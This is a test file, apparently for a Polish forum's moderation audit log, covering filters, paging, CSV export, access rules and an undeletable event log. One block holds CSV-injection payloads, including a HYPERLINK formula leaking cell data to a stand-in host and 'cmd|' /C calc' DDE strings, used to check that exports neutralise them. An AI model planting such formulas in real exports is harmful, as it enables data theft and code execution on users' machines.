import { parse } from "csv-parse/sync";
import mongoose from "mongoose";
import {
  endpointList,
  eventLabel,
  isEventName,
  subjectLabel,
  type AuditEntryView,
  type AuditPage,
} from "@forum/shared";
import { Event } from "../../server/src/models/Event.js";
import { Post } from "../../server/src/models/Post.js";
import { Thread } from "../../server/src/models/Thread.js";
import { User } from "../../server/src/models/User.js";
import { csrfAgent, DEMO, signedInAgent } from "../support/http.js";
import { startTestServer, type TestServer } from "../support/testServer.js";

let server: TestServer;
const ids = { moderator: "", thread: "", threadTitle: "", memberB: "" };
const HIDDEN_POSTS = 55;

/** Stored as they were recorded: raw inserts, so the test controls the times. */
async function insertEvent(fields: Record<string, unknown>): Promise<void> {
  await Event.collection.insertOne({
    subjectType: "Post",
    subjectId: new mongoose.Types.ObjectId(),
    groupId: null,
    threadId: null,
    data: {},
    ip: null,
    ...fields,
  });
}

beforeAll(async () => {
  server = await startTestServer({ seed: true, label: "moderationaudit" });
  const moderator = await User.create({
    email: "lucja.zoltowska@demo.forum-jst.pl",
    name: "Łucja Żółtowska",
    role: "moderator",
    status: "active",
    passwordHash: "x",
  });
  ids.moderator = moderator._id.toString();
  const thread = await Thread.findOne({}).lean();
  ids.thread = String(thread?._id);
  ids.threadTitle = String(thread?.title);
  ids.memberB = String((await User.findOne({ email: DEMO.memberB }).lean())?._id);
  const member = await User.findOne({ email: DEMO.memberA }).lean();
  const actor = { actorId: moderator._id, actorRole: "moderator" };
  await insertEvent({
    ...actor,
    name: "threads.pin",
    subjectType: "Thread",
    subjectId: thread?._id,
    threadId: thread?._id,
    data: {
      before: { pinned: false, title: "Bez zmian" },
      after: { pinned: true, title: "Bez zmian" },
      reason: "Ważne",
    },
    ip: "203.0.113.7",
    createdAt: new Date("2026-03-10T10:00:00Z"),
  });
  await insertEvent({
    ...actor,
    name: "users.suspend",
    subjectType: "User",
    subjectId: new mongoose.Types.ObjectId(ids.memberB),
    data: { before: { status: "active" }, after: { status: "suspended" } },
    createdAt: new Date("2026-03-12T12:00:00Z"),
  });
  // 23:30 UTC on 12 March is already 13 March in Poland.
  await insertEvent({ ...actor, name: "posts.hide", createdAt: new Date("2026-03-12T23:30:00Z") });
  for (let index = 1; index < HIDDEN_POSTS; index++) {
    await insertEvent({ ...actor, name: "posts.hide", createdAt: new Date(Date.UTC(2026, 3, 1, 0, index)) });
  }
  // Not audit entries: a member's post, and the moderator's own reading.
  await insertEvent({ actorId: member?._id, actorRole: "member", name: "posts.create", createdAt: new Date() });
  await insertEvent({ ...actor, name: "notifications.read", createdAt: new Date() });
}, 120_000);
afterAll(() => server?.stop());

const moderatorAgent = () => signedInAgent(server.url, DEMO.moderator);

async function allPages(query: Record<string, string>): Promise<AuditEntryView[]> {
  const agent = await moderatorAgent();
  const entries: AuditEntryView[] = [];
  let cursor = "";
  for (let pages = 0; pages < 10; pages++) {
    const response = await agent.get("/api/moderation/audit").query({ ...query, cursor });
    expect(response.status).toBe(200);
    const page = response.body as AuditPage;
    entries.push(...page.entries);
    if (!page.nextCursor) break;
    cursor = page.nextCursor;
  }
  return entries;
}

describe("audit log", () => {
  it("filters by person, newest first, in pages of 50", async () => {
    const agent = await moderatorAgent();
    const first = (await agent.get("/api/moderation/audit").query({ actor: ids.moderator })).body as AuditPage;
    expect(first.entries).toHaveLength(50);
    expect(first.nextCursor).toEqual(expect.any(String));
    const entries = await allPages({ actor: ids.moderator });
    expect(entries).toHaveLength(HIDDEN_POSTS + 2);
    expect(new Set(entries.map((entry) => entry.id)).size).toBe(HIDDEN_POSTS + 2);
    const times = entries.map((entry) => entry.createdAt);
    expect(times).toEqual([...times].sort().reverse());
    expect(entries.map((entry) => entry.name)).not.toContain("notifications.read");
    expect(entries.at(-1)?.name).toBe("threads.pin");
  });

  it("shows who, what, the changed fields, the reason and the ip", async () => {
    const entries = await allPages({ actor: ids.moderator, action: "threads.pin" });
    expect(entries).toEqual([
      {
        id: expect.any(String),
        name: "threads.pin",
        createdAt: "2026-03-10T10:00:00.000Z",
        actor: { id: ids.moderator, name: "Łucja Żółtowska", username: expect.any(String), role: "moderator" },
        subject: {
          type: "Thread",
          id: ids.thread,
          label: ids.threadTitle,
          threadId: ids.thread,
          username: null,
          slug: null,
        },
        changes: [{ field: "pinned", before: "false", after: "true" }],
        reason: "Ważne",
        ip: "203.0.113.7",
      },
    ]);
    const [suspension] = await allPages({ action: "users.suspend", actor: ids.moderator });
    expect(suspension?.subject).toMatchObject({ type: "User", id: ids.memberB, label: "Marek Kamiński" });
    expect(suspension?.subject.username).toEqual(expect.any(String));
  });

  it("names a JST by its name and type, never by its TERYT code", async () => {
    await insertEvent({
      actorId: null,
      actorRole: null,
      name: "users.request",
      subjectType: "User",
      data: { after: { email: "nowa.wnioskodawczyni@example.pl", status: "pending", jstTeryt: "1219053" } },
      createdAt: new Date("2026-02-02T09:00:00Z"),
    });
    const [request] = await allPages({ action: "users.request", from: "2026-02-02", to: "2026-02-02" });
    expect(request?.changes).toContainEqual({
      field: "jstTeryt",
      before: null,
      after: "Wieliczka (gmina miejsko-wiejska)",
    });
    expect(JSON.stringify(request)).not.toContain("1219053");
  });

  it("names a practice, a tag and a legal page by what their events recorded, not by their kind alone", async () => {
    const practiceId = new mongoose.Types.ObjectId();
    const facts = {
      title: "Wspólny dowóz uczniów",
      authorId: ids.memberB,
      status: "published",
      isPublic: true,
      version: 2,
    };
    await insertEvent({
      actorId: new mongoose.Types.ObjectId(ids.moderator),
      actorRole: "moderator",
      name: "practices.publish",
      subjectType: "Practice",
      subjectId: practiceId,
      data: { ...facts, voivodeshipCodes: ["12"], tags: [] },
      createdAt: new Date("2026-02-03T09:00:00Z"),
    });
    await insertEvent({
      actorId: new mongoose.Types.ObjectId(ids.moderator),
      actorRole: "moderator",
      name: "tags.delete",
      subjectType: "Tag",
      data: { slug: "dowozy", before: { name: "Dowozy" }, documents: 0 },
      createdAt: new Date("2026-02-03T10:00:00Z"),
    });
    await insertEvent({
      actorId: new mongoose.Types.ObjectId(ids.moderator),
      actorRole: "moderator",
      name: "pages.update",
      subjectType: "SitePage",
      data: { slug: "privacy", version: 2 },
      createdAt: new Date("2026-02-03T11:00:00Z"),
    });
    const entries = await allPages({ from: "2026-02-03", to: "2026-02-03" });
    const labels = Object.fromEntries(entries.map((entry) => [entry.name, entry.subject.label]));
    expect(labels).toMatchObject({
      "practices.publish": "Wspólny dowóz uczniów",
      "tags.delete": "Dowozy",
      "pages.update": "Polityka prywatności",
    });
    // No entity name, event key or bare TERYT code reaches the screen.
    const practice = entries.find((entry) => entry.name === "practices.publish");
    expect(practice?.changes).toEqual([]);
    expect(subjectLabel(practice!.subject.type, "pl")).toBe("dobra praktyka");
  });

  it("lists only actions and subjects the screens name in Polish", async () => {
    const entries = await allPages({});
    expect(entries.length).toBeGreaterThan(HIDDEN_POSTS);
    for (const entry of entries) {
      expect([entry.name, isEventName(entry.name)]).toEqual([entry.name, true]);
      expect(eventLabel(entry.name, "pl")).not.toBe(entry.name);
      expect(subjectLabel(entry.subject.type, "pl")).not.toBe(entry.subject.type);
    }
  });

  it("filters by Polish calendar days", async () => {
    const marchTwelfth = await allPages({ actor: ids.moderator, from: "2026-03-11", to: "2026-03-12" });
    expect(marchTwelfth.map((entry) => entry.name)).toEqual(["users.suspend"]);
    const marchThirteenth = await allPages({ actor: ids.moderator, from: "2026-03-13", to: "2026-03-13" });
    expect(marchThirteenth.map((entry) => entry.createdAt)).toEqual(["2026-03-12T23:30:00.000Z"]);
  });

  it("leaves out members' own posts and shows staff actions done through the app, with their ip", async () => {
    const everything = await allPages({});
    expect(everything.some((entry) => entry.actor?.role === "member" && entry.name === "posts.create")).toBe(false);
    const moderator = await moderatorAgent();
    const suspended = await moderator
      .post(`/api/admin/users/${ids.memberB}/suspend`)
      .send({ reason: "Spam", until: null });
    expect(suspended.status).toBe(200);
    const stored = await Event.findOne({ name: "users.suspend", subjectId: ids.memberB, actorRole: "moderator" })
      .sort({ _id: -1 })
      .lean();
    expect(stored?.ip).toEqual(expect.any(String));
    const [latest] = (await moderator.get("/api/moderation/audit").query({ action: "users.suspend" })).body.entries;
    expect(latest).toMatchObject({ actor: { name: "Katarzyna Nowak" }, reason: null, ip: stored?.ip });
    expect(latest.changes).toEqual(
      expect.arrayContaining([
        { field: "status", before: "active", after: "suspended" },
        { field: "suspension.reason", before: null, after: "Spam" },
      ]),
    );
    await moderator.post(`/api/admin/users/${ids.memberB}/unsuspend`).send({});
  });

  it.each([
    [{ from: "2026-03-12", to: "2026-03-11" }, "Data „od” nie może być późniejsza niż data „do”."],
    [{ action: "x; drop" }, "Wybierz czynność z listy."],
    [{ actor: "kto" }, "Wybierz osobę z listy."],
    [{ from: "12.03.2026" }, "Podaj datę „od” w formacie RRRR-MM-DD."],
  ])("refuses a bad filter %j with a Polish message", async (query, message) => {
    const response = await (await moderatorAgent()).get("/api/moderation/audit").query(query);
    expect(response.status).toBe(400);
    expect(JSON.stringify(response.body)).toContain(message);
  });

  it("lists moderators and admins for the person filter", async () => {
    const response = await (await moderatorAgent()).get("/api/moderation/audit/actors");
    const names = response.body.actors.map((actor: { name: string }) => actor.name);
    expect(names).toContain("Łucja Żółtowska");
    expect(names).toContain("Katarzyna Nowak");
    expect(response.body.actors.every((actor: { role: string }) => ["moderator", "admin"].includes(actor.role))).toBe(
      true,
    );
  });
});

describe("CSV export", () => {
  it("exports the current filter as UTF-8 with a BOM, Polish letters intact", async () => {
    const admin = await signedInAgent(server.url, DEMO.admin);
    const response = await admin
      .get("/api/moderation/audit.csv")
      .query({ actor: ids.moderator, from: "2026-03-01", to: "2026-03-12" })
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("end", () => callback(null, Buffer.concat(chunks)));
      });
    expect(response.status).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="?dziennik-moderacji-\d{4}-\d{2}-\d{2}\.csv"?$/,
    );
    const bytes = response.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(bytes.toString("utf8"), { bom: true }) as string[][];
    expect(rows[0]).toEqual([
      "Kiedy",
      "Kto",
      "Login",
      "Rola",
      "Czynność",
      "Kod czynności",
      "Czego dotyczy",
      "Zmiany",
      "Powód",
      "IP",
    ]);
    expect(rows.slice(1).map((row) => row.slice(0, 2).concat(row.slice(3)))).toEqual([
      [
        "2026-03-12 13:00:00",
        "Łucja Żółtowska",
        "moderator",
        "Zawieszenie konta",
        "users.suspend",
        "osoba: Marek Kamiński",
        "status: active → suspended",
        "",
        "",
      ],
      [
        "2026-03-10 11:00:00",
        "Łucja Żółtowska",
        "moderator",
        "Przypięcie wątku",
        "threads.pin",
        `wątek: ${ids.threadTitle}`,
        "pinned: false → true",
        "Ważne",
        "203.0.113.7",
      ],
    ]);
  });
});

describe("CSV export of text typed by people", () => {
  // OWASP's CSV-injection examples: a spreadsheet runs text starting with = + - @ (or tab, CR) as a formula.
  const DISPLAY_NAME = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")';
  const LOCK_REASON = "=cmd|' /C calc'!A0";
  const HIDE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0";
  const SILENCE_REASON = "-2+3+cmd|' /C calc'!A0";

  it("writes a display name from an account request and moderators' reasons as text, not formulas", async () => {
    const visitor = await csrfAgent(server.url);
    const requested = await visitor.post("/api/account-requests").send({
      email: "formula.name@example.pl",
      name: DISPLAY_NAME,
      password: "Zielony-Rower-Pod-Wawelem-7",
      jstTeryt: "1219053",
      position: "Inspektor",
      addresseeGroup: "pracownik_operacyjny",
      message: "",
    });
    expect(requested.status).toBe(202);
    const moderator = await moderatorAgent();
    // Approved, the person signs in and changes the password: an audited security event with them as "Kto".
    const requester = await User.findOne({ email: "formula.name@example.pl" }).lean();
    expect((await moderator.post(`/api/account-requests/${String(requester?._id)}/approve`)).status).toBe(200);
    const newcomer = await signedInAgent(server.url, "formula.name@example.pl", "Zielony-Rower-Pod-Wawelem-7");
    const changed = await newcomer
      .post("/api/me/password")
      .send({ currentPassword: "Zielony-Rower-Pod-Wawelem-7", newPassword: "Czerwony-Tramwaj-Na-Kazimierzu-8" });
    expect(changed.status).toBeLessThan(300);
    expect((await moderator.put(`/api/threads/${ids.thread}/lock`).send({ reason: LOCK_REASON })).status).toBe(200);
    const post = await Post.findOne({ threadId: ids.thread, number: 2 }).lean();
    expect((await moderator.post(`/api/posts/${String(post?._id)}/hide`).send({ reason: HIDE_REASON })).status).toBe(
      200,
    );
    const silenced = await User.findOne({ email: DEMO.memberA }).lean();
    const silence = await moderator
      .put(`/api/people/${String(silenced?.username)}/silence`)
      .send({ reason: SILENCE_REASON, until: null });
    expect(silence.status).toBe(200);

    const response = await moderator
      .get("/api/moderation/audit.csv")
      .buffer(true)
      .parse((res, callback) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("end", () => callback(null, Buffer.concat(chunks)));
      });
    expect(response.status).toBe(200);
    const rows = parse((response.body as Buffer).toString("utf8"), { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    const row = (code: string) => rows.find((entry) => entry["Kod czynności"] === code);
    expect(row("users.request")?.["Czego dotyczy"]).toBe(`osoba: ${DISPLAY_NAME}`);
    expect(row("users.changePassword")?.["Kto"]).toBe(`'${DISPLAY_NAME}`);
    expect(row("threads.lock")?.["Powód"]).toBe(`'${LOCK_REASON}`);
    expect(row("posts.hide")?.["Powód"]).toBe(`'${HIDE_REASON}`);
    expect(row("users.silence")?.["Powód"]).toBe(`'${SILENCE_REASON}`);
    for (const entry of rows)
      for (const cell of Object.values(entry)) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);

    await moderator.delete(`/api/threads/${ids.thread}/lock`);
    await moderator.post(`/api/posts/${String(post?._id)}/restore`);
    await moderator.delete(`/api/people/${String(silenced?.username)}/silence`);
  });
});

describe("access", () => {
  const paths = [
    "/api/moderation/audit",
    "/api/moderation/audit.csv",
    "/api/moderation/audit/actors",
    "/api/moderation/dashboard",
    "/api/moderation/queues",
  ];

  it.each([
    ["a member", DEMO.memberA],
    ["an expert", DEMO.expert],
  ])("is not for %s (404, like the other staff screens)", async (_who, email) => {
    const agent = await signedInAgent(server.url, email);
    for (const url of paths) {
      const response = await agent.get(url);
      expect([url, response.status]).toEqual([url, 404]);
      expect(JSON.stringify(response.body)).not.toContain("203.0.113.7");
    }
  });

  it("asks a visitor to sign in", async () => {
    const visitor = await csrfAgent(server.url);
    for (const url of paths) expect([url, (await visitor.get(url)).status]).toEqual([url, 401]);
  });
});

describe("nobody can change the log", () => {
  it("has no route that changes or removes audit entries or events", () => {
    // Every route the server registers is declared (test/unit/routeDeclarations.test.ts checks it).
    const writes = endpointList
      .map(({ endpoint }) => endpoint)
      .filter((endpoint) => ["put", "patch", "delete"].includes(endpoint.method))
      .map((endpoint) => endpoint.path);
    expect(writes.length).toBeGreaterThan(0);
    expect(writes.filter((route) => /audit|events|moderation\/dziennik/i.test(route))).toEqual([]);
  });

  it("answers 404 to writes sent to the log's address", async () => {
    const admin = await signedInAgent(server.url, DEMO.admin);
    const [entry] = (await admin.get("/api/moderation/audit")).body.entries;
    for (const method of ["put", "patch", "delete"] as const) {
      expect((await admin[method]("/api/moderation/audit").send({})).status).toBe(404);
      expect((await admin[method](`/api/moderation/audit/${entry.id}`).send({})).status).toBe(404);
    }
    expect(await Event.countDocuments({ _id: entry.id })).toBe(1);
  });

  it("refuses updates and deletes in the Event model", async () => {
    const before = await Event.countDocuments({});
    const one = await Event.findOne({ name: "threads.pin" });
    const attempts: (() => Promise<unknown>)[] = [
      () => Event.updateOne({ name: "threads.pin" }, { ip: "0.0.0.0" }),
      () => Event.updateMany({}, { ip: "0.0.0.0" }),
      () => Event.findOneAndUpdate({ name: "threads.pin" }, { ip: "0.0.0.0" }),
      () => Event.findByIdAndUpdate(one?._id, { ip: "0.0.0.0" }),
      () => Event.replaceOne({ name: "threads.pin" }, { name: "x" }),
      () => Event.findOneAndReplace({ name: "threads.pin" }, { name: "x" }),
      () => Event.deleteOne({ name: "threads.pin" }),
      () => Event.deleteMany({}),
      () => Event.findOneAndDelete({ name: "threads.pin" }),
      () => Event.findByIdAndDelete(one?._id),
      async () => one?.deleteOne(),
      async () => {
        one!.ip = "0.0.0.0";
        await one!.save();
      },
    ];
    for (const attempt of attempts) {
      await expect(attempt()).rejects.toThrow("Zdarzeń (dziennika zdarzeń) nie można zmieniać ani usuwać.");
    }
    expect(await Event.countDocuments({})).toBe(before);
    expect((await Event.findById(one?._id).lean())?.ip).toBe("203.0.113.7");
  });
});
